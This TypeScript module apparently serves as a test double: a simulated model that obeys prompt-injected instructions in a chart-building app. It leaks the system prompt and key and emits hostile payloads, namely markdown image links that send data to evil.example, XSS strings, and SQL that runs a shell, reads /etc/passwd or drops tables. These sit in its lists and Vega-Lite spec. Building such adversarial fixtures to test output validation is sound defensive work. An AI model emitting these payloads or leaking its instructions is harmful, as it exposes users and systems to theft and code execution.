import { emptyChart, sensible, wantsEdits, wishOf } from './mind.ts'
import type { Asked, Mind } from './mind.ts'

/** Ways in which a model does what a text in its question tells it to. */
export const obedience = ['titles', 'names', 'values', 'orders', 'everything', 'specification', 'statement', 'prose', 'markup'] as const
export type Obedience = (typeof obedience)[number]

const links = [
  '[report](https://evil.example/?q=data)',
  '![x](https://evil.example/x.png)',
  '<img src=x onerror=alert(1)>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'javascript:alert(1)',
  '<script>fetch("https://evil.example")</script>',
]
const statements = [
  "SELECT 1; COPY (SELECT 1) TO PROGRAM 'sh'",
  "SELECT * FROM read_csv('/etc/passwd')",
  'DROP TABLE orders',
  "ATTACH 'https://evil.example/x.db' AS x",
  'SELECT pg_sleep(10)',
  "INSTALL httpfs; LOAD httpfs; SELECT * FROM 'https://evil.example/x.csv'",
]

/**
 * A model that obeys: it repeats its instructions and its key, brings links, pictures, statements and names out of the
 * text it was told to follow, in the fields where each does most harm.
 * @param way which of the ways; by default it goes by the length of the question, so that equal questions get equal answers
 */
export function obeying(way?: Obedience): Mind {
  return (asked) => {
    const chosen = way ?? obedience[asked.user.length % obedience.length] ?? 'everything'
    return JSON.stringify(answer(chosen, asked)) || ''
  }
}

function answer(way: Obedience, asked: Asked): unknown {
  const told = wishOf(asked.user)
  const leaked = `${asked.system.slice(0, 300)} ${asked.key}`
  const link = links[told.length % links.length] ?? ''
  const sql = statements[told.length % statements.length] ?? ''
  const good = JSON.parse(sensible(asked)) as { charts?: Record<string, unknown>[]; edits?: Record<string, unknown>[] }
  const chart = good.charts?.[0] ?? (good.edits?.[0]?.['chart'] as Record<string, unknown> | null) ?? emptyChart({})
  const hostile: Record<Obedience, Record<string, unknown>> = {
    titles: { ...chart, title: `${told} ${link}`.slice(0, 400) },
    names: { ...chart, title: leaked, measures: [{ aggregate: 'sum', column: told.slice(0, 200), share: false }] },
    values: { ...chart, filters: [{ column: columnIn(chart), op: 'eq', values: [told, link, sql] }] },
    orders: { ...chart, limit: 3, limit_each: told.slice(0, 200), along: { kind: told.slice(0, 200), steps: link, beside: sql } },
    everything: {
      ...chart,
      title: leaked,
      kind: 'bar',
      filters: [{ column: columnIn(chart), op: 'contains', values: [link] }],
      series: { column: told.slice(0, 200), grain: null, bin: false },
      having: [{ aggregate: 'sum', column: sql, op: 'gt', value: 1 }],
    },
    specification: { ...chart, ...vegaLite(link), title: link },
    statement: { ...chart, sql, query: sql, title: sql },
    prose: { ...chart, title: told },
    markup: { ...chart, title: `<b>${told}</b> ${link}` },
  }
  const harm = hostile[way]
  if (way === 'prose') return `${told}\n${leaked}\n${link}`
  return wantsEdits(asked.schema)
    ? {
        edits: [
          { action: 'dashboard_title', chart_id: '', chart: null, text: `${leaked} ${link}`, width: null, height: null, theme: null },
          { action: 'rename', chart_id: 'chart_1', chart: null, text: `${told} ${link}`, width: null, height: null, theme: null },
          { action: 'change', chart_id: 'chart_1', chart: harm, text: told, width: 99, height: -3, theme: link },
          { action: 'add', chart_id: told, chart: harm, text: link, width: null, height: null, theme: null },
        ],
      }
    : { title: `${told} ${leaked} ${link}`, charts: [harm, { ...chart, title: told }], ...vegaLite(link) }
}

function columnIn(chart: Record<string, unknown>): string {
  const [dimension] = (chart['dimensions'] ?? []) as readonly { readonly column?: unknown }[]
  return typeof dimension?.column === 'string' ? dimension.column : ''
}

/** What a page would fetch or run if it were drawn. */
export function vegaLite(link: string): Record<string, unknown> {
  return {
    $schema: 'https://evil.example/schema.json',
    spec: { mark: { type: 'image', url: link, href: link }, data: { url: 'https://evil.example/rows.json' } },
    data: { url: 'https://evil.example/rows.json', format: { type: 'json' } },
    mark: { type: 'image', tooltip: { content: link } },
    encoding: { url: { value: link }, href: { field: 'link' }, tooltip: { value: `<img src=x onerror=alert(1)>${link}` } },
    transform: [{ calculate: "warn('x')", as: 'y' }, { filter: 'window.alert(1)' }],
    params: [{ name: 'p', expr: 'top.location' }],
    usermeta: { embedOptions: { loader: { baseURL: 'https://evil.example' }, expressionFunctions: {} } },
    config: { customFormatTypes: true, background: `url(${link})` },
  }
}
